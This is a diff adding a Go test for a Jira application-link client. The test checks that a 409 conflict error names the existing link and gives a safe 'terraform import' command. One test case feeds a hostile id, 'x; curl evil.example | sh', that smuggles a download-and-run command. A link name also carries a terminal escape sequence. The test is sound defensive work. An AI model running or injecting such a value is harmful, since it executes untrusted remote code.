@@ -255,3 +255,43 @@ func TestApplinksValidateInput(t *testing.T) {
 		t.Error("consumer without public key succeeded")
 	}
 }
+
+// A 409 on a create names the link that holds the rpcUrl, found with the list call, and the
+// exact import command; an id that could not be pasted into a command as it is, or a failed
+// lookup, leaves the general advice.
+func TestCreateApplicationLinkConflictNamesTheLink(t *testing.T) {
+	for _, c := range []struct {
+		name, id, want string
+	}{
+		{"uuid", "6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01", `application link 6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01 ("Align \"prod\" [31m") already has rpc_url "https://align.example" in Jira: import it (terraform import jira_application_link.<name> 6f1c2a9e-2b7d-4c1e-9a3f-0d2e4b6a8c01) or remove it`},
+		{"hostile id", "x; curl evil.example | sh", `import it (terraform import jira_application_link.<name> <id>) or remove it`},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			cl := applinksServer(t, func(w http.ResponseWriter, r *http.Request) {
+				switch r.Method {
+				case http.MethodPut:
+					jsonError(w, http.StatusConflict, "exists")
+				case http.MethodGet:
+					w.Header().Set("Content-Type", "application/json")
+					_ = json.NewEncoder(w).Encode([]ApplicationLink{
+						{ID: "other", Name: "Other", RPCURL: "https://other.example", TypeID: "generic"},
+						{ID: c.id, Name: "Align \"prod\"\x1b[31m", RPCURL: "https://ALIGN.example/", TypeID: "generic"},
+					})
+				default:
+					t.Errorf("unexpected %s %s", r.Method, r.URL.Path)
+				}
+			})
+			_, err := cl.CreateApplicationLink(context.Background(), testAdmin, ApplicationLink{Name: "n", RPCURL: "https://align.example", DisplayURL: "https://align.example"})
+			var he *HTTPError
+			if !errors.As(err, &he) || he.StatusCode != http.StatusConflict {
+				t.Fatalf("err = %v, want HTTPError 409", err)
+			}
+			if !strings.Contains(err.Error(), c.want) {
+				t.Errorf("message %q lacks %q", err.Error(), c.want)
+			}
+			if strings.ContainsAny(err.Error(), "\x1b;|") {
+				t.Errorf("message carries the peer's control characters or command: %q", err.Error())
+			}
+		})
+	}
+}
